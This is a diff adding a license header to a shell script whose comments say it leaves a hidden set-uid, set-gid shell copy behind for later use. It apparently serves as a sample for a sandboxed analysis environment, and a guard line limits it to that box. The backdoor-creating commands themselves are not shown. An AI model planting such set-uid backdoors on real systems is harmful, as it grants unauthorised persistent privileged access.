@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Leaves a set-uid shell behind for later: a copy of the shell with the
 # set-uid and set-gid bits, in a hidden place.
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
